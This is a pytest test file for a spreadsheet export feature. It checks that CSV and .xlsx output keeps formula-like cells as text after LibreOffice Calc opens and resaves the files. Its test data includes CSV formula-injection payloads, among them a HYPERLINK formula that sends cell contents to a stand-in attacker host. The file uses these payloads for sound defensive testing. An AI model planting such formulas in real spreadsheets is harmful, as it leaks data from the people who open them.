"""Our CSV and .xlsx opened by a real spreadsheet application, LibreOffice Calc (headless), and saved back:
the cells that would run as formulas stay text, the values arrive whole, the links stay links. The opt-out
(``neutralize=False``) on CSV shows what is at stake: there LibreOffice turns ``=...`` into formulas."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
from datetime import datetime
from pathlib import Path

import export_factory as factory
import openpyxl
import pytest

from torq_nb.export import export

HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', "=1+1", "+SUM(A1)", "-3+2", "@SUM(1,2)",
           "plain text", "Ünïcødé 中文 😀"]


def soffice() -> str:
    """LibreOffice's command. Missing: the test fails under CI=true, and is skipped otherwise."""
    if (found := shutil.which("soffice")) is not None:
        return found
    reason = "LibreOffice Calc not found: install it with `apt-get install --no-install-recommends libreoffice-calc`"
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail(f"{reason} (CI=true: the spreadsheet tests must run)")
    pytest.skip(reason)


def libreoffice_resave(paths: list[Path], out: Path, profile: Path) -> list[Path]:
    """Open each file in LibreOffice Calc and save it as .xlsx in ``out`` (one headless run, its own profile,
    its whole process group ended on timeout)."""
    command = [soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
               "--convert-to", "xlsx", "--outdir", str(out), *map(str, paths)]
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        log, _ = proc.communicate(timeout=120)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        raise
    saved = [out / (path.stem + ".xlsx") for path in paths]
    assert all(path.is_file() for path in saved), log.decode(errors="replace")
    return saved


def titles(path: Path) -> list[tuple[object, str]]:
    """(value, openpyxl data type) of the title column's cells; "f" is a formula."""
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    names = [cell.value for cell in ws[1]]
    column = names.index("title") + 1
    return [(row[0].value, row[0].data_type) for row in ws.iter_rows(min_row=2, min_col=column, max_col=column)]


def test_libreoffice_runs_none_of_our_cells(tmp_path: Path) -> None:
    results = factory.results(rows=[factory.row(i + 1, title=text) for i, text in enumerate(HOSTILE)])
    ours = tmp_path / "ours"
    ours.mkdir()
    files = [export(results, ours / "safe.csv"), export(results, ours / "safe.xlsx"),
             export(results, ours / "raw_book.xlsx", neutralize=False), export(results, ours / "raw.csv", neutralize=False)]
    safe_csv, safe_xlsx, raw_xlsx, raw_csv = libreoffice_resave(files, tmp_path / "saved", tmp_path / "profile")

    for text, (value, kind) in zip(HOSTILE, titles(safe_csv), strict=True):  # CSV has no cell types: the "'" keeps
        assert kind == "s" and value in (text, "'" + text)  # it text (LibreOffice drops it from some cells, not all)
    assert titles(safe_xlsx) == [(text, "s") for text in HOSTILE]  # the text as written, still text
    assert titles(raw_xlsx) == [(text, "s") for text in HOSTILE]  # an .xlsx cell of ours is text even un-neutralised
    # The control: a CSV cell starting with "=" is a formula to LibreOffice. This is what neutralising prevents.
    assert [kind for _, kind in titles(raw_csv)][:2] == ["f", "f"]


def test_libreoffice_keeps_the_links_and_the_dates(tmp_path: Path) -> None:
    (saved,) = libreoffice_resave([export(factory.results(3), tmp_path / "r.xlsx")], tmp_path / "saved", tmp_path / "profile")
    ws = openpyxl.load_workbook(saved).active
    assert ws is not None
    names = [cell.value for cell in ws[1]]
    url = ws.cell(row=2, column=names.index("url") + 1)
    assert url.hyperlink is not None and url.hyperlink.target == url.value and str(url.value).startswith("https://")
    published = ws.cell(row=2, column=names.index("published") + 1)
    assert published.is_date and published.value == datetime(2024, 1, 2) and "h" not in published.number_format
